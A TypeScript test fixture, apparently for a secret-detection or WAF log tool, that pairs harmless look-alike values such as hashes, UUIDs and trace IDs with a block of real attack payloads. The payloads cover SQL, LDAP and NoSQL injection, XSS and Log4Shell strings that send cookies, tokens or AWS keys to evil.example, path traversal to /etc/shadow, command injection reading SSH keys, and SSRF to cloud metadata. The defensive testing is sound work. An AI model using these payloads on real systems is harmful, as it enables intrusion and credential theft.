import type { LogRow } from '../../../../../src/service/model.ts';
import { type LookAlikeCase, lookAlikes } from '../case.ts';
import { get, postForm, postJson, postText, postXml } from '../requests.ts';
import { Values } from '../values.ts';

const v = new Values(305);
const hex = v.hex(40);
const etag = v.hex(16);
const nonce = v.base64(16);
const sri = `sha384-${v.base64(48)}`;
const uuid = v.uuid();
const other = v.uuid();
const ray = `${v.hex(16)}-ICN`;
const clientId = `${v.digits(9)}.${v.digits(10)}`;
const publicKey = v.base64(64);

const IDS = 'hashes and identifiers of products';
const FILTERS = 'filters, flags and documentation';
const ATTACKS = 'attacks that speak of secrets';

const row = (rule: string, detectedValue: string, baseMessage: string): Partial<LogRow> => ({
  ...{
    time: '2026-05-02 08:14:31',
    rule,
    detectedValue,
    baseMessage,
    action: 'Blocked',
    address: '198.51.100.9',
  },
});

export const products: readonly LookAlikeCase[] = [
  ...lookAlikes(IDS, 'https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers', [
    ['If-None-Match of hex', [etag], get('/a.js', { 'If-None-Match': `"${etag}"` })],
    ['commit in a path', [hex], get(`/org/repo/commit/${hex}`)],
    ['commit in JSON', [hex], postJson('/ci', { sha: hex, ref: 'refs/heads/main' })],
    ['nonce of a policy', [nonce], postText('/csp', `script-src 'nonce-${nonce}' 'strict-dynamic'`)],
    ['integrity of a script', [sri], postText('/page', `<script src="/a.js" integrity="${sri}"></script>`)],
    ['UUID in a path', [uuid], get(`/orders/${uuid}/items`)],
    ['UUID as id in JSON', [other], postJson('/orders', { id: other, status: 'paid' })],
    ['Cloudflare ray', [ray], get('/', { 'CF-Ray': ray })],
    [
      'B3 trace',
      ['80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1'],
      get('/', { b3: '80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1' }),
    ],
    [
      'AWS trace',
      ['Root=1-67891233-abcdef012345678912345678'],
      get('/', { 'X-Amzn-Trace-Id': 'Root=1-67891233-abcdef012345678912345678' }),
    ],
    ['analytics cid', [clientId], get(`/collect?v=2&cid=${clientId}&tid=G-ABC123`)],
    ['gclid', ['EAIaIQobChMI0pXx'], get('/landing?gclid=EAIaIQobChMI0pXx_BwE')],
    ['fbclid', ['fbclid=IwAR0abcDEF'], get('/landing?fbclid=IwAR0abcDEF')],
    ['public key member', [publicKey], postJson('/vapid', { publicKey })],
    [
      'ssh public key',
      [`ssh-ed25519 ${publicKey.slice(0, 68)}`],
      postText('/keys', `ssh-ed25519 ${publicKey.slice(0, 68)} ann@host`),
    ],
    [
      'client id of OAuth',
      ['client_id=1234567890-abc.apps.googleusercontent.com'],
      get('/auth?client_id=1234567890-abc.apps.googleusercontent.com&response_type=code'),
    ],
    ['order number of letters', ['ORD-2026-05-000412'], get('/orders?no=ORD-2026-05-000412')],
    ['invoice number', ['INV00012345'], postForm('/pay', { invoice: 'INV00012345' })],
    ['chunk of a bundle', ['main.4f3c2a1b9d8e.js'], get('/static/main.4f3c2a1b9d8e.js')],
    [
      'long slug',
      ['handmade-ceramic-coffee-mug-with-wooden-lid-350ml-blue'],
      get('/p/handmade-ceramic-coffee-mug-with-wooden-lid-350ml-blue'),
    ],
    [
      'version of a long build',
      ['2026.05.02-rc1+build.4312'],
      get('/api', { 'X-App-Version': '2026.05.02-rc1+build.4312' }),
    ],
    [
      'Docker digest',
      ['sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'],
      get('/v2/a/manifests/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'),
    ],
  ]),
  ...lookAlikes(FILTERS, 'https://www.rfc-editor.org/rfc/rfc6749', [
    ['token_type of an answer', ['token_type=bearer'], postText('/cb', 'token_type=bearer&expires_in=3600')],
    [
      'token type in JSON',
      ['"token_type":"Bearer"'],
      postJson('/log', { token_type: 'Bearer', expires_in: 3600 }),
    ],
    ['filter of key and value', ['key=color&value=dark-blue'], get('/filter?key=color&value=dark-blue')],
    ['sort key in JSON', ['"sortKey":"price_desc"'], postJson('/search', { sortKey: 'price_desc' })],
    [
      'name and value of a colour',
      ['{"name":"color","value":"dark-blue-2026"}'],
      postJson('/search', { facets: [{ name: 'color', value: 'dark-blue-2026' }] }),
    ],
    [
      'request of CORS headers',
      ['authorization,x-csrf-token,x-api-key'],
      get('/api', { 'Access-Control-Request-Headers': 'authorization,x-csrf-token,x-api-key' }),
    ],
    [
      'password policy, once more',
      ['"passwordPolicy":{"minLength":12}'],
      postJson('/admin', { passwordPolicy: { minLength: 12 } }),
    ],
    [
      'authentication method',
      ['auth_method=password'],
      postForm('/login/method', { auth_method: 'password' }),
    ],
    [
      'secret question text',
      ['secret_question=first-pet'],
      postForm('/profile', { secret_question: 'first-pet' }),
    ],
    [
      'key of a translation',
      ['"key":"checkout.button.label"'],
      postJson('/i18n', { key: 'checkout.button.label', lang: 'ko' }),
    ],
    [
      'keyboard shortcut',
      ['"key":"Enter"'],
      postJson('/log', { event: 'keydown', key: 'Enter', code: 'NumpadEnter' }),
    ],
    ['status code', ['"code":"ERR_NOT_FOUND"'], postJson('/log', { code: 'ERR_NOT_FOUND' })],
    ['postal code, once more', ['postal_code=04524'], postForm('/address', { postal_code: '04524' })],
    ['promotion code', ['promo_code=SPRING2026'], postForm('/cart', { promo_code: 'SPRING2026' })],
    ['session length in minutes', ['session_minutes=30'], get('/settings?session_minutes=30')],
    ['pins of a map', ['pins=37.5665'], get('/map?pins=37.5665')],
    [
      'token count, once more',
      ['"total_tokens":1532'],
      postJson('/log', { usage: { prompt_tokens: 1200, total_tokens: 1532 } }),
    ],
    [
      'signature algorithm',
      ['"signature_algorithm":"RS256"'],
      postJson('/log', { signature_algorithm: 'RS256' }),
    ],
    ['cookie banner', ['cookie_policy=accepted'], postForm('/consent', { cookie_policy: 'accepted' })],
    [
      'type of a password field',
      ['type="password"'],
      postText('/preview', '<input type="password" autocomplete="off">'),
    ],
    [
      'article on passwords',
      ['A password is a word that opens doors'],
      postText('/blog', 'A password is a word that opens doors.'),
    ],
    [
      'schema of JSON',
      ['"password":{"type":"string","minLength":8}'],
      postText('/openapi', '{"properties":{"password":{"type":"string","minLength":8}}}'),
    ],
    [
      'XML schema',
      ['<xs:element name="password" type="xs:string"/>'],
      postXml('/wsdl', '<xs:element name="password" type="xs:string"/>'),
    ],
  ]),
  ...lookAlikes(ATTACKS, 'https://owasp.org/www-project-web-security-testing-guide/', [
    [
      'union of password columns',
      ['UNION SELECT login,password,3 FROM wp_users'],
      get('/?id=0 UNION SELECT login,password,3 FROM wp_users'),
      row('SQL Injection', 'UNION SELECT login,password,3', 'parameter id'),
    ],
    [
      'blind test of a password',
      ['AND SUBSTRING(password,1,1)=0x61'],
      get('/?id=1 AND SUBSTRING(password,1,1)=0x61'),
      row('SQL Injection', 'SUBSTRING(password,1,1)=0x61', 'parameter id'),
    ],
    [
      'login by injection',
      ["user=admin'--"],
      postText('/login', "user=admin'--&password=x"),
      row('SQL Injection', "admin'--", 'parameter user'),
    ],
    [
      'script that reads cookies',
      ['<script>new Image().src="//evil.example/?c="+document.cookie</script>'],
      postText('/comment', '<script>new Image().src="//evil.example/?c="+document.cookie</script>'),
      row('XSS', 'document.cookie', 'body'),
    ],
    [
      'script that reads storage',
      ['localStorage.getItem("token")'],
      postText('/comment', '<svg onload=fetch("//evil.example/"+localStorage.getItem("token"))>'),
      row('XSS', 'onload=', 'body'),
    ],
    [
      'traversal to passwd, once more',
      ['../../../../etc/passwd'],
      get('/?file=../../../../etc/passwd'),
      row('Path Traversal', '/etc/passwd', 'parameter file'),
    ],
    [
      'traversal to shadow, encoded',
      ['..%2f..%2fetc%2fshadow'],
      get('/?file=..%2f..%2fetc%2fshadow'),
      row('Path Traversal', '../../etc/shadow', 'parameter file'),
    ],
    [
      'template with a token',
      ['{{config.SECRET_KEY}}'],
      get('/?name={{config.SECRET_KEY}}'),
      row('SSTI', '{{config.SECRET_KEY}}', 'parameter name'),
    ],
    [
      'template of Java',
      [`\${T(java.lang.System).getenv("API_KEY")}`],
      get(`/?name=\${T(java.lang.System).getenv("API_KEY")}`),
      row('SSTI', 'T(java.lang.System)', 'parameter name'),
    ],
    [
      'JNDI with environment',
      [`\${jndi:ldap://evil.example/\${env:AWS_SECRET_ACCESS_KEY}}`],
      get('/', { 'X-Api-Version': `\${jndi:ldap://evil.example/\${env:AWS_SECRET_ACCESS_KEY}}` }),
      row('Log4Shell', `\${jndi:ldap`, 'header X-Api-Version'),
    ],
    [
      'probe of env files',
      ['GET /.env.production'],
      get('/.env.production'),
      row('Scanner', '.env.production', 'path'),
    ],
    ['probe of git', ['/.git/config'], get('/.git/config'), row('Scanner', '.git/config', 'path')],
    [
      'command that reads keys',
      ['cat ~/.ssh/id_rsa'],
      postForm('/ping', { host: 'x' })
        .replace('host=x', 'host=x')
        .replace('/ping', '/ping?c=;cat ~/.ssh/id_rsa'),
      row('Command Injection', 'cat ~/.ssh/id_rsa', 'parameter c'),
    ],
    [
      'LDAP injection of a password',
      ['*)(userPassword=*'],
      get('/?q=*)(userPassword=*'),
      row('LDAP Injection', '*)(userPassword=*', 'parameter q'),
    ],
    [
      'NoSQL injection in a password',
      ['"password":{"$ne":null}'],
      postText('/login', '{"user":"admin","password":{"$ne":null}}'),
      row('NoSQL Injection', '"$ne"', 'body'),
    ],
    [
      'metadata of a cloud',
      ['169.254.169.254/latest/meta-data/iam/security-credentials/'],
      get('/fetch?u=http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      row('SSRF', '169.254.169.254', 'parameter u'),
    ],
  ]),
];
